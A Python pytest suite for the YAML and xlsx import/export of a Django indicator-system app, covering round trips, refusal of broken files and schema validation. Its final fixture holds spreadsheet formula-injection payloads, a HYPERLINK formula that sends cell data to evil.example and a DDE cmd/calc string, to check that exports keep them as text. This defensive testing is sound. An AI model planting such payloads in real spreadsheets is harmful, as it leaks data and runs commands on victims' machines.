"""File format (issue point 5) through the management commands: export → import → export is
byte-identical for YAML and cell-for-cell equal for xlsx for all five templates; a bad file is
refused as a whole with every problem and its line (YAML) or row (xlsx); every built-in file
validates against the JSON Schema."""

from __future__ import annotations

import copy
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from django.core.management import CommandError, call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from mofan.audit.models import AuditEntry
from mofan.indicators.builtin import SLUGS, builtin_text
from mofan.indicators.fileformat import FormatError, from_plain, schema
from mofan.indicators.models import IndicatorNode, IndicatorSystem, IndicatorVersion

pytestmark = pytest.mark.django_db


@pytest.fixture
def loaded(db) -> None:
    call_command("load_templates", stdout=io.StringIO())


def export(slug: str, path: Path, fmt: str = "yaml") -> Path:
    call_command("indicators_export", slug, "--format", fmt, "-o", str(path), stdout=io.StringIO())
    return path


def import_(path: Path, *args: str) -> str:
    out = io.StringIO()
    call_command("indicators_import", str(path), *args, stdout=out)
    return out.getvalue()


def snapshot() -> tuple[int, int, int, int]:
    return (
        IndicatorSystem.objects.count(),
        IndicatorVersion.objects.count(),
        IndicatorNode.objects.count(),
        AuditEntry.objects.count(),
    )


def cells(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    book = load_workbook(path)
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


# --- round trips ------------------------------------------------------------------------------


@pytest.mark.parametrize("slug", SLUGS)
def test_yaml_export_import_export_is_byte_identical(loaded, tmp_path, slug):
    first = export(slug, tmp_path / "first.yaml")
    nodes = IndicatorNode.objects.filter(version__system__slug=slug).count()
    IndicatorSystem.objects.filter(slug=slug).delete()
    assert not IndicatorNode.objects.filter(version__system__slug=slug).exists()

    assert f"（{nodes} 个节点）" in import_(first)
    second = export(slug, tmp_path / "second.yaml")
    assert second.read_bytes() == first.read_bytes()
    assert first.read_text(encoding="utf-8").startswith(
        f"format: mofan-indicators/1\nslug: {slug}\n"
    )


@pytest.mark.parametrize("slug", SLUGS)
def test_xlsx_export_import_export_is_equal_cell_by_cell(loaded, tmp_path, slug):
    first = export(slug, tmp_path / "first.xlsx", "xlsx")
    import_(first, "--as", f"{slug}-copy")
    second = export(f"{slug}-copy", tmp_path / "second.xlsx", "xlsx")

    before, after = cells(first), cells(second)
    assert list(before) == list(after) == ["体系", "指标"]
    slug_rows = [i for i, row in enumerate(before["体系"]) if row[0] == "slug"]
    assert len(slug_rows) == 1
    assert before["体系"].pop(slug_rows[0]) == ("slug", slug)
    assert after["体系"].pop(slug_rows[0]) == ("slug", f"{slug}-copy")
    assert before == after
    rows = before["指标"]
    assert rows[0][:8] == (
        "编码",
        "层级",
        "标题",
        "考核标准",
        "分值",
        "评分方法",
        "参数",
        "佐证材料",
    )
    assert len(rows) - 1 == IndicatorNode.objects.filter(version__system__slug=slug).count()

    # nothing was lost on the way through the spreadsheet: the YAML matches too
    original = export(slug, tmp_path / "original.yaml").read_text(encoding="utf-8")
    copy = export(f"{slug}-copy", tmp_path / "copy.yaml").read_text(encoding="utf-8")
    assert copy == original.replace(f"slug: {slug}\n", f"slug: {slug}-copy\n", 1)


EXTRAS = """\
format: mofan-indicators/1
slug: extras
name: 带附加字段的体系
issuer: 测试
year: 2024
version: 1
cadence: continuous
contact: ""
reviewed: 0
tags: [试点, 2024]
nodes:
  - code: "1"
    title: 一
    points: 10
    method: {type: rollup}
    owner: 办公室
    flags: {pilot: true, level: 0}
    children:
      - code: "1.1"
        title: 人工评分
        points: 10
        method: {type: manual, step: 1}
        weight: 1
        children: []
"""


def test_unknown_keys_are_kept_through_yaml_and_xlsx(db, tmp_path):
    source = tmp_path / "extras.yaml"
    source.write_text(EXTRAS, encoding="utf-8")
    import_(source)
    first = export("extras", tmp_path / "first.yaml")
    data = yaml.safe_load(first.read_text(encoding="utf-8"))
    assert (data["contact"], data["reviewed"], data["tags"]) == ("", 0, ["试点", 2024])
    assert data["nodes"][0]["owner"] == "办公室"
    assert data["nodes"][0]["flags"] == {"level": 0, "pilot": True}

    import_(export("extras", tmp_path / "first.xlsx", "xlsx"), "--as", "extras-copy")
    copy = export("extras-copy", tmp_path / "copy.yaml").read_text(encoding="utf-8")
    assert copy == first.read_text(encoding="utf-8").replace(
        "slug: extras\n", "slug: extras-copy\n"
    )


def test_importing_a_slug_again_adds_a_draft_version(loaded, tmp_path):
    path = export("yueqing-2020", tmp_path / "yueqing.yaml")
    import_(path)
    versions = IndicatorVersion.objects.filter(system__slug="yueqing-2020").order_by("number")
    assert [(v.number, v.status) for v in versions] == [(1, "published"), (2, "draft")]


# --- refused imports --------------------------------------------------------------------------

BROKEN = """\
format: mofan-indicators/1
slug: broken
name: 有错的体系
issuer: 测试
year: 2024
version: 1
nodes:
  - code: "1"
    title: 第一类
    points: 20
    method: {type: rollup}
    children:
      - code: "1.1"
        title: ""
        points: 8
        method: {type: manual}
        children: []
      - code: "1.1"
        title: 重复的编码
        points: 8
        method: {type: manual}
        children: []
  - code: "2"
    title: 第二类
    points: 5
    method:
      type: deduction
      rules:
        - {key: accident, label: 重大事故, per_incident: 6}
    children: []
"""


def test_a_yaml_with_problems_lists_each_with_its_line_and_applies_nothing(loaded, tmp_path):
    path = tmp_path / "broken.yaml"
    path.write_text(BROKEN, encoding="utf-8")
    before = snapshot()
    with pytest.raises(CommandError) as info:
        import_(path)
    message = str(info.value)
    assert "导入失败，未做任何修改" in message
    assert "第 8 行，1：分值 20 与下级分值之和 16 不一致。" in message  # the wrong sum
    assert "第 13 行，1.1：“标题”不能为空。" in message  # the empty title
    assert "第 18 行，1.1：编码重复。" in message  # the duplicate code
    assert "第 23 行，2：扣分规则“重大事故”每次扣 6 分，超过了本项分值 5 分。" in message
    assert message.index("第 8 行") < message.index("第 13 行") < message.index("第 18 行")
    assert snapshot() == before
    assert not IndicatorSystem.objects.filter(slug="broken").exists()


def test_schema_and_tree_problems_are_listed_together(db, tmp_path):
    text = BROKEN.replace("points: 5\n", "points: 5\n    weight: many\n").replace(
        "year: 2024", "year: 二〇二四"
    )
    path = tmp_path / "broken.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(CommandError) as info:
        import_(path)
    message = str(info.value)
    assert "第 1 行，year：“年度”的类型不对" in message  # schema
    assert "第 23 行，2：“weight”的类型不对" in message  # schema
    assert (
        "第 13 行，1.1：“标题”不能为空。" in message
    )  # the schema says it, the tree does not repeat it
    assert message.count("1.1：") == 2  # the empty title and the duplicate, nothing twice
    assert not IndicatorSystem.objects.exists()


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (
            'format: mofan-indicators/1\nslug: x\nname: 坏\nnodes:\n  - code: "1"\n'
            "    title: 一\n   points: 1\n",  # line 7 is indented one space short
            7,
        ),
        ("format: mofan-indicators/1\nslug: [a, b\nname: 坏\n", 3),
        ("format: mofan-indicators/1\n\tslug: x\n", 2),
    ],
)
def test_malformed_yaml_gives_the_line(db, tmp_path, text, line):
    path = tmp_path / "malformed.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(CommandError) as info:
        import_(path)
    assert f"第 {line} 行，-：YAML 格式错误" in str(info.value)
    assert snapshot() == (0, 0, 0, 0)


def test_an_xlsx_with_a_level_jump_gives_the_row_and_applies_nothing(loaded, tmp_path):
    path = export("yueqing-2020", tmp_path / "yueqing.xlsx", "xlsx")
    book = load_workbook(path)
    sheet = book["指标"]
    assert [sheet.cell(row=r, column=1).value for r in (2, 3, 4)] == ["1", "1.1", "1.1.1"]
    assert sheet.cell(row=4, column=2).value == 3
    sheet.cell(row=4, column=2).value = 5  # 1.1 (level 2) → 1.1.1 at level 5
    sheet.cell(row=8, column=2).value = "二"  # 1.1.5: not a number
    book.save(path)
    before = snapshot()
    with pytest.raises(CommandError) as info:
        import_(path, "--as", "yueqing-copy")
    message = str(info.value)
    assert "第 4 行，1.1.1：层级不连续。" in message
    assert "第 8 行，1.1.5：“层级”应为 1 或更大的整数。" in message
    assert "“指标”表的行号" in message
    assert snapshot() == before


def test_an_xlsx_with_a_wrong_sum_gives_the_row(loaded, tmp_path):
    path = export("yueqing-2020", tmp_path / "yueqing.xlsx", "xlsx")
    book = load_workbook(path)
    book["指标"].cell(row=4, column=5).value = 7  # 1.1.1: 8 → 7 points
    book.save(path)
    with pytest.raises(CommandError) as info:
        import_(path, "--as", "yueqing-copy")
    assert "第 3 行，1.1：分值 38 与下级分值之和 37 不一致。" in str(info.value)
    assert not IndicatorSystem.objects.filter(slug="yueqing-copy").exists()


def test_command_errors(loaded, tmp_path):
    with pytest.raises(CommandError, match="找不到指标体系“nope”"):
        export("nope", tmp_path / "nope.yaml")
    with pytest.raises(CommandError, match="须用 -o"):
        call_command("indicators_export", "yueqing-2020", "--format", "xlsx")
    path = export("yueqing-2020", tmp_path / "yueqing.yaml")
    with pytest.raises(CommandError, match="标识“Not A Slug”无效"):
        import_(path, "--as", "Not A Slug")
    with pytest.raises(CommandError, match="文件不存在"):
        import_(tmp_path / "missing.yaml")
    with pytest.raises(CommandError, match="工委“nobody”不存在"):
        import_(path, "--committee", "nobody")


# --- JSON Schema ------------------------------------------------------------------------------


def test_the_schema_is_a_valid_draft_2020_12_schema():
    jsonschema.Draft202012Validator.check_schema(schema())
    assert schema()["$schema"] == "https://json-schema.org/draft/2020-12/schema"


@pytest.mark.parametrize("slug", SLUGS)
def test_builtin_file_validates_against_the_json_schema(slug):
    data = yaml.safe_load(builtin_text(slug))
    errors = list(jsonschema.Draft202012Validator(schema()).iter_errors(data))
    assert errors == []


def test_the_schema_check_catches_a_broken_builtin():
    data = yaml.safe_load(builtin_text("yueqing-2020"))
    data["nodes"][0]["children"][0]["children"][0]["points"] = 7.3
    data["nodes"][1]["method"]["type"] = "average"
    del data["issuer"]
    errors = list(jsonschema.Draft202012Validator(schema()).iter_errors(data))
    assert sorted(list(e.absolute_path) for e in errors) == [
        [],
        ["nodes", 0, "children", 0, "children", 0, "points"],
        ["nodes", 1, "method", "type"],
    ]


# --- damaged files ----------------------------------------------------------------------------

JUNK = [None, "", -1, 0.3, "x", True, [], {}, [1], {"a": [1]}, [{"key": [1]}], {"type": "grade"}]


def _paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if path:
        yield path
    if isinstance(value, dict | list):
        for key, child in value.items() if isinstance(value, dict) else enumerate(value):
            yield from _paths(child, (*path, key))


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(slug=st.sampled_from(SLUGS), data=st.data())
def test_property_a_damaged_file_is_refused_never_crashes(slug, data):
    plain = copy.deepcopy(yaml.safe_load(builtin_text(slug)))
    for _ in range(data.draw(st.integers(1, 3))):
        paths = list(_paths(plain))
        if data.draw(st.booleans()):  # favour the parts only the tree checks look into
            paths = [p for p in paths if "method" in p or "rules" in p] or paths
        path = data.draw(st.sampled_from(paths))
        parent = plain
        for key in path[:-1]:
            parent = parent[key]
        if data.draw(st.booleans()):
            parent[path[-1]] = copy.deepcopy(data.draw(st.sampled_from(JUNK)))
        else:
            del parent[path[-1]]
    try:
        from_plain(plain)
    except FormatError as exc:
        assert exc.problems
        assert all(
            p.message and any("\u4e00" <= c <= "\u9fff" for c in p.message) for p in exc.problems
        )


HOSTILE = """\
format: mofan-indicators/1
slug: hostile
name: '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
issuer: '+cmd|'' /C calc''!A0'
year: 2024
version: 1
cadence: continuous
nodes:
  - code: "1"
    title: '=1+1'
    criteria: '@SUM(1,2)'
    points: 10
    method: {type: rollup}
    children:
      - code: "1.1"
        title: '-2+3'
        points: 10
        method: {type: manual, step: 1}
        children: []
"""


def test_the_xlsx_export_stores_no_formula_and_round_trips_the_text(db, tmp_path):
    """Formula injection: a name or title written as a formula stays text in every sheet."""
    import zipfile

    source = tmp_path / "hostile.yaml"
    source.write_text(HOSTILE, encoding="utf-8")
    import_(source)
    exported = export("hostile", tmp_path / "hostile.xlsx", "xlsx")
    with zipfile.ZipFile(exported) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    book = load_workbook(exported)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    # Excel shows it as text, and keeps it text when the cell is edited.
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
    import_(exported, "--as", "hostile-copy")
    system = IndicatorSystem.objects.get(slug="hostile-copy")
    assert system.name.startswith('=HYPERLINK("http://evil.example/')
